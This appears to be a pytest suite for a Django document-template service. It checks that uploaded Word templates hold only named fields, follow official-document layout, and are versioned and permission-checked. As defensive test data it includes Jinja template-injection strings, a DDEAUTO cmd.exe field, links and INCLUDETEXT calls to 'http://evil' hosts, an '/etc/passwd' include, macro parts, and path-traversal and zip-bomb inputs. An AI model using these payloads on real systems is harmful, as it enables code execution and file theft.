"""A Word template is a form with named fields and nothing else: it can't reach, run, read or swell."""

from __future__ import annotations

import io

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH

from sangesan.foundation.errors import Conflict, Forbidden, UserError
from sangesan.organization.documents import queries, services, shipped
from sangesan.organization.documents.models import Template
from sangesan.organization.documents.queries import drawing
from sangesan.organization.documents.services.inspecting import LONGEST, SWOLLEN, inspect
from tests.builders import small_mine
from tests.organization.documents import words

pytestmark = pytest.mark.django_db


def refused(content: bytes) -> str:
    with pytest.raises(UserError) as fault:
        inspect(content)
    return str(fault.value)


def test_the_shipped_template_and_a_plain_one_are_taken():
    inspect(shipped.template())
    inspect(words.holding("{{ 标题 }}", "{{正文}}", "{%p for 段 in 段落 %}", "{{ 段 }}", "{%p endfor %}"))


def test_the_shipped_template_is_set_as_official_documents_are():
    """GB/T 9704: 22 lines in 225 mm, pages numbered odd right and even left, headings in 黑体."""
    told = drawing.Told(None, {"parts": [{"kind": "h1", "text": "一、请求"}, {"kind": "p", "text": "正文。"}]}, "某某")
    made = Document(io.BytesIO(drawing.word_of(told)))
    page = made.sections[0]
    text = page.page_height - page.top_margin - page.bottom_margin
    face, lines = {}, {}
    for paragraph in made.paragraphs:
        face[paragraph.text] = paragraph.runs[0].font.name if paragraph.runs else ""
        lines[paragraph.text] = paragraph.paragraph_format.line_spacing
    assert text // lines["正文。"] == 22
    assert (face["一、请求"], face["正文。"]) == ("黑体", "仿宋_GB2312")
    assert [foot.paragraphs[0].alignment for foot in (page.footer, page.even_page_footer)] == [
        WD_ALIGN_PARAGRAPH.RIGHT, WD_ALIGN_PARAGRAPH.LEFT]
    assert made.settings.odd_and_even_pages_header_footer


def test_who_took_a_copy_stands_at_the_foot_of_an_own_template_too():
    made = Document()
    made.add_paragraph("{{ 正文 }}")
    page = made.sections[0]
    page.different_first_page_header_footer = True
    page.footer.paragraphs[0].add_run("本矿页脚")
    page.first_page_footer.paragraphs[0].add_run("本矿首页")
    out = io.BytesIO()
    made.save(out)
    filled = drawing._filled(out.getvalue(), drawing.Told(None, {"parts": []}, ""), "由1004取用")
    page = Document(io.BytesIO(filled)).sections[0]
    assert [foot.paragraphs[0].text for foot in (page.footer, page.first_page_footer)] == [
        "本矿页脚\n由1004取用", "本矿首页\n由1004取用"]


def test_a_long_title_is_no_longer_in_the_properties_than_word_holds():
    """A title may hold four hundred signs of what was asked, a property of a Word file two hundred and fifty-five."""
    title = f"关于{'夜班工资<差额>' * 50}事项的办结报告"
    made = Document(io.BytesIO(drawing.word_of(drawing.Told(None, {"title": title}, ""))))
    assert title in [paragraph.text for paragraph in made.paragraphs]
    assert made.core_properties.title == title[:255], "as it was typed, and not as it is written in a file"


def test_an_unknown_field_is_named():
    said = refused(words.holding("{{ 标题 }}{{ 反映人身份证号 }}{{ 正文 }}"))
    assert "反映人身份证号" in said and "文号" in said


@pytest.mark.parametrize("line", [
    "{{ 标题.__class__ }}", "{{ 标题.__init__.__globals__ }}", "{{ 标题['__class__'] }}", "{{ 标题|attr('x') }}",
    "{{ ''.join(段落) }}", "{{ cycler.__init__ }}", "{{ '字' * 1000000000 }}", "{{ 1 + 1 }}", "{{ range(9999999) }}",
    "{% set x = 标题 %}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 标题 %}",
    "{% macro f() %}{% endmacro %}", "{% for a in 标题 %}{% endfor %}",
    "{% for a in 段落 %}{% for b in 段落 %}{% endfor %}{% endfor %}",
    "{% if 标题 == 1 %}{% endif %}", "{{r 正文 }}", "{{ lipsum }}", "{{ self }}",
    "{% raw %}{{ 正文 }}", "{{ 标题", "{% if 标题 %}",
])
def test_whatever_is_more_than_a_field_is_refused(line):
    refused(words.holding("{{ 正文 }}", line))


def test_braces_that_do_not_pair_are_shown_where_they_stand_and_in_no_foreign_words():
    said = refused(words.holding("{{ 正文 }}", "报表 {{ 标题", "{{ 日期 }}"))
    assert "报表 {{ 标题" in said and "unexpected" not in said


def test_a_file_without_fields_is_refused():
    assert "没有任何字段" in refused(words.holding("一份普通的文件"))


@pytest.mark.parametrize("line", ["｛｛标题｝｝", "{ 标题 }", "{｛ 标题 ｝}", "｛{ 标题 }｝", "{｛标题}}", "｛日期｝"])
def test_a_field_in_braces_of_another_kind_is_refused_and_not_printed_on_every_paper(line):
    assert line in refused(words.holding(line, "{{ 正文 }}"))
    inspect(words.holding("{{ 标题 }}（{{日期}}）", "｛附一｝ { 备注 }", "{{ 正文 }}"))


def test_a_template_without_the_words_of_the_paper_is_refused():
    assert "没有正文" in refused(words.holding("{{ 标题 }}", "{{ 日期 }}"))


@pytest.mark.parametrize("content", [b"", b"PK", b"PK\x03\x04 no zip", b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"%PDF-1.7"])
def test_what_is_no_word_file_is_refused(content):
    assert ".docx" in refused(content)


@pytest.mark.parametrize(("name", "body"), [
    ("word/vbaProject.bin", b"macro"), ("word/embeddings/oleObject1.bin", b"ole"),
    ("word/activeX/activeX1.xml", b"<x/>"), ("customUI/customUI.xml", b"<x/>"),
])
def test_macros_and_embedded_things_are_refused(name, body):
    assert "宏" in refused(words.changed({name: body}))


def test_a_macro_file_with_another_name_is_refused():
    types = words.part(shipped.template(), "[Content_Types].xml").replace(
        "wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
    assert "宏" in refused(words.changed({"[Content_Types].xml": types.encode()}))


def test_a_reference_to_the_outside_is_refused():
    rels = words.part(shipped.template(), "word/_rels/document.xml.rels")
    link = '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
    assert "外部" in refused(words.changed({
        "word/_rels/document.xml.rels": rels.replace("</Relationships>", link + "</Relationships>").encode()}))


@pytest.mark.parametrize("code", ['DDEAUTO c:\\\\cmd.exe "x"', 'INCLUDETEXT "http://evil/x"', 'INCLUDEPICTURE "x"'])
def test_a_field_that_reads_other_files_is_refused(code):
    body = words.part(shipped.template()).replace("<w:body>", (
        f"<w:body><w:p><w:r><w:instrText>{code[:4]}</w:instrText></w:r>"
        f"<w:r><w:instrText>{code[4:]}</w:instrText></w:r></w:p>").replace('"', "&quot;"))
    assert "域" in refused(words.changed({"word/document.xml": body.encode()}))


def test_entities_are_refused():
    bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa">]>' + words.part(shipped.template())
    assert "不正常" in refused(words.changed({"word/document.xml": bomb.encode()}))


def test_a_bomb_is_refused_before_it_swells():
    assert "太大" in refused(words.changed({"word/media/a.xml": b"\0" * (SWOLLEN + 1)}))
    assert "太长" in refused(words.changed({"word/header1.xml": b"<w:hdr>" + b" " * LONGEST + b"</w:hdr>"}))
    assert "太大" in refused(words.changed({f"word/media/{n}.txt": b"x" for n in range(400)}))
    assert "最多" in refused(b"x" * (3 << 20))


def test_a_name_that_leads_out_of_the_file_is_refused():
    assert "名称" in refused(words.changed({"../../etc/cron.d/x": b"x"}))


def test_a_draft_is_put_in_force_once_and_the_former_is_kept(noon):
    mine = small_mine()
    scope = mine.scope("triage")
    first = services.upload(scope=scope, kind="accepted", name="..\\受理\u202e.docx", content=shipped.template())
    second = services.upload(scope=scope, kind="accepted", name="二.docx", content=words.holding("{{ 正文 }}"))
    assert (first.version, first.state, first.name, second.version) == (1, "draft", "受理.docx", 2)
    assert queries.template_for("accepted") is None
    services.put_in_force(scope=scope, pk=first.pk)
    services.put_in_force(scope=scope, pk=second.pk)
    assert queries.template_for("accepted").pk == second.pk
    assert Template.objects.get(pk=first.pk).state == "retired"
    with pytest.raises(Conflict):
        services.put_in_force(scope=scope, pk=first.pk)
    general = services.upload(scope=scope, kind="general", name="通.docx", content=shipped.template())
    services.put_in_force(scope=scope, pk=general.pk)
    assert queries.template_for("closed").pk == general.pk and queries.template_for("accepted").pk == second.pk
    services.retire(scope=scope, pk=second.pk)
    assert queries.template_for("accepted").pk == general.pk


def test_only_who_keeps_templates_touches_them(noon):
    mine = small_mine()
    for post in ("chief", "handler", "leader", "admin"):
        scope = mine.scope(post)
        for call in (lambda s=scope: services.upload(scope=s, kind="general", name="x", content=shipped.template()),
                     lambda s=scope: services.name_issuer(scope=s, name="某机关", letters="某"),
                     lambda s=scope: queries.register(s, 2026), lambda s=scope: queries.templates(s)):
            with pytest.raises(Forbidden):
                call()
    with pytest.raises(UserError):
        services.upload(scope=mine.scope("triage"), kind="nothing", name="x", content=shipped.template())
